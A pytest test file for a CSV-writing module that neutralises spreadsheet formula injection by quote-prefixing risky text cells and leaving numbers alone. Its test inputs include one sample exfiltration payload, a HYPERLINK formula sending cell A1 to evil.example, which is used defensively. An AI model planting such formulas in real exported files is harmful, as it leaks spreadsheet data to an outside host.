"""core.csv: text cells a spreadsheet would run as a formula are neutralised (OWASP CSV injection); numbers,
negative ones included, are written as numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from core.csv import SafeDictWriter, SafeWriter, csv_safe

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_starting_like_a_formula_is_prefixed_with_a_quote(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Research", "a=b", "", "2026-03-01", "x-1", " =1"])
def test_other_text_is_unchanged(value):
    assert csv_safe(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -0.5, 7, None])
def test_numbers_and_other_values_are_unchanged(value):
    assert csv_safe(value) is value


def test_writers_neutralise_every_text_cell_and_keep_numbers():
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(["=1+1", Decimal("-5.25"), "ok"])
    writer.writerows([["@x", -2]])
    dict_out = io.StringIO()
    dict_writer = SafeDictWriter(dict_out, fieldnames=("label", "usd"))
    dict_writer.writeheader()
    dict_writer.writerow({"label": "-2+3", "usd": Decimal("-1.00")})
    dict_writer.writerows([{"label": "+1", "usd": 4}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "-5.25", "ok"], ["'@x", "-2"]]
    assert list(csv.reader(io.StringIO(dict_out.getvalue()))) == [
        ["label", "usd"],
        ["'-2+3", "-1.00"],
        ["'+1", "4"],
    ]
